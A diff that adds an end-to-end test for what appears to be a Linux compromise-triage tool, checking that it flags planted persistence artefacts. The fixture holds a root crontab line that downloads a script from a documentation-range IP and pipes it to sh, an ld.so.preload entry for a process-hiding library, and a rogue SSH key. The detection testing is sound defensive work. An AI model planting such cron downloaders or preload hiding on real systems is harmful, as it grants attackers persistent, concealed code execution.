@@ -188,6 +188,30 @@ TEST(EndToEnd, LiveTriageFindsARunningMiner) {
   }
 }
 
+TEST(EndToEnd, TriageFindsCronDownloaderAndPreload) {
+  test::TempDir dir;
+  fs::path root = dir / "root";
+  test::write_file(root / "etc/hosts", "127.0.0.1 localhost\n");
+  test::write_file(root / "var/spool/cron/crontabs/root",
+                   "*/30 * * * * (curl -fsSL http://203.0.113.9/pm.sh||wget -q -O- http://203.0.113.9/pm.sh)|sh\n");
+  test::write_file(root / "etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all\n");
+  test::write_file(root / "etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n");
+  test::write_file(root / "root/.ssh/authorized_keys", "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC root@worm\n");
+  test::write_file(root / "home/deploy/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI deploy@laptop\n");
+  auto r = ms({"triage", "--json", "--root", root.string(), "--out", (dir / "out").string()});
+  ASSERT_EQ(r.exit_code, 1) << r.err;
+  auto report = nlohmann::json::parse(test::read_file(dir / "out/report.json"));
+  std::map<std::string, int> rules;
+  for (const auto& f : report["findings"]) ++rules[f["rule_id"].get<std::string>()];
+  EXPECT_EQ(rules["heuristic.cron_download_exec"], 1) << report["findings"].dump();
+  EXPECT_EQ(rules["heuristic.ld_so_preload"], 1);
+  EXPECT_EQ(rules.count("heuristic.cron_runs_from_temp"), 0u);  // the Debian e2scrub line is clean
+  size_t keys = 0;
+  for (const auto& a : report["artefacts"])
+    if (a["kind"] == "authorized_keys") keys += a["events"].get<size_t>();
+  EXPECT_EQ(keys, 2u);
+}
+
 TEST(EndToEnd, LiveTriageRunsAndIsReadOnly) {
   test::TempDir dir;
   auto r = ms({"triage", "--json", "--out", (dir / "out").string()});
